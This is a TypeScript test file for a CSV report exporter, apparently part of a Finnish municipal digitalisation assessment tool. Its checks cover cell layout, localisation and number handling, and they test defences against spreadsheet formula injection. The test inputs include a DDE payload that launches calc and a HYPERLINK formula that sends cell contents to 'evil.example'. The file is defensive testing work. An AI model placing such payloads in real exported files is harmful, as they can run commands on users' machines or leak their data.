/** The report as rows: whole, and nothing in it is computed by whatever opens it. */
import { describe, expect, it } from 'vitest';
import { LOCALES } from '../../../src/conversation/locale.ts';
import { reportCsv } from '../../../src/reports/result/report-csv.ts';
import { LIVE_BEGINNINGS } from '../live-patterns.ts';
import { NAMES, reportOf } from './made-reports.ts';

/** Reads it as RFC 4180 says, with semicolons. */
function cellsIn(csv: string): string[][] {
  return csv
    .replace('\uFEFF', '')
    .split('\r\n')
    .filter(line => line !== '')
    .map(line =>
      line
        .slice(1, -1)
        .split('";"')
        .map(cell => cell.replaceAll('""', '"')),
    );
}

describe.each(LOCALES)('rows in %s', locale => {
  it.each(NAMES)('of %s are four cells each, under headings', name => {
    const [head, ...rows] = cellsIn(reportCsv(reportOf(name, locale)));
    expect(head?.every(heading => heading !== '')).toBe(true);
    expect(rows.length).toBeGreaterThan(4);
    for (const row of rows) expect(row).toHaveLength(4);
  });
});

it('say what was judged, what holds it down and what to do, and by the ASCII minus what is below nothing', () => {
  const rows = cellsIn(reportCsv(reportOf('some of everything', 'fi')));
  expect(rows).toContainEqual(['Digitalisaation pikatesti: Oulu', 'Kunta', '', 'Oulu']);
  expect(rows).toContainEqual([
    'Esteet ja toimenpiteet',
    'Suunnitelma',
    'Toimenpide',
    'Laadi digitalisaation tiekartta',
  ]);
  const workbook = reportCsv(reportOf('a workbook', 'fi'));
  expect(workbook).toMatch(/-\d/);
  expect(workbook).not.toContain('\u2212');
});

const TAILS = ["cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example?"&A1,"Katso")', '1+1', 'A1'];

it.each(LIVE_BEGINNINGS)('nothing that begins with %j is live', beginning => {
  for (const tail of TAILS) {
    const words = beginning + tail;
    const cells = cellsIn(reportCsv(reportOf('some of everything', 'fi', { notes: { need: words } }))).flat();
    const shown = cells.find(cell => cell.includes(tail)) ?? '';
    expect(shown).not.toBe('');
    const report = { ...reportOf('nothing', 'fi'), result: words, title: words };
    for (const [part = '', , , value = ''] of cellsIn(reportCsv(report)).slice(1, 3)) {
      expect(part.startsWith("'")).toBe(true);
      if (value.includes(tail)) expect(value.startsWith("'")).toBe(true);
    }
  }
});

it.each(['-5', '-65 250 €', '−70 %', '-1,5'])('the number %s stays one', number => {
  const report = { ...reportOf('nothing', 'fi'), result: number };
  expect(cellsIn(reportCsv(report))[1]?.[3]).toBe(number.replace('−', '-'));
});
